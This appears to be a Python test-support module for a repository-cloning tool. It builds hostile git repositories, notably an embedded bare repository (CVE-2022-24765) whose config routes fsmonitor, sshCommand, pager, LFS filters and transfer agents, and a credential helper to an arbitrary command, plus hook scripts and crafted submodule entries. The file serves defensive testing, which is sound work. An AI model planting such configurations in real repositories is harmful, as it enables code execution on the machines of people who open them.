"""The parts of hostile repositories: an attack is a function of `World` that returns the files of a commit."""

from collections.abc import Callable
from dataclasses import dataclass

from tests.sidecars.cloner.objects import Bare, Entries, Files, Script


@dataclass(frozen=True)
class World:
    """The targets of an attack."""

    run: str
    """A command that shows that it ran."""
    inner: str
    """The commit of the public repository `inner`."""
    host: str
    """Where the repository is served, as host:port."""
    other_host: str
    """Another server."""
    fsmonitor_index: bytes
    """An index file with which git asks its file system monitor."""
    large_file: Callable[[bytes], str]
    """Has the server keep a large file; returns the pointer to it."""
    bare: Bare
    """The repository itself, for attacks by other things than files."""


Attack = Callable[[World], Files | Entries]


def quoted(text: str) -> str:
    escaped = text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\t", "\\t")
    return f'"{escaped}"'


def modules(path: str, url: str, name: str = "evil", more: str = "") -> str:
    # A subsection's name cannot hold a line break; all else is taken as it is.
    return f'[submodule "{name}"]\n\tpath = {quoted(path)}\n\turl = {quoted(url)}\n{more}'


def bare_repository(world: World, more: str = "") -> Files:
    """Return the files of an embedded bare repository, whose configuration names programs (CVE-2022-24765)."""
    config = (
        f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = {quoted(world.run)}\n"
        f"\thooksPath = .\n\tsshCommand = {quoted(world.run)}\n\tpager = {quoted(world.run)}\n"
        f'[filter "lfs"]\n\tprocess = {quoted(world.run)}\n\tsmudge = {quoted(world.run)}\n'
        f'[lfs "customtransfer.evil"]\n\tpath = sh\n\targs = -c {quoted(world.run)}\n'
        f"[lfs]\n\tstandalonetransferagent = evil\n[credential]\n\thelper = {quoted('!' + world.run)}\n{more}"
    )
    hook = Script(f"#!/bin/sh\n{world.run}\n")
    return {
        "HEAD": "ref: refs/heads/x\n",
        "config": config,
        "index": world.fsmonitor_index,
        "objects": {"info": {"x": ""}},
        "refs": {"heads": {"y": ""}},
        "info": {"attributes": "* filter=lfs\n"},
        **dict.fromkeys(("post-checkout", "post-merge", "reference-transaction", "fsmonitor-watchman"), hook),
    }
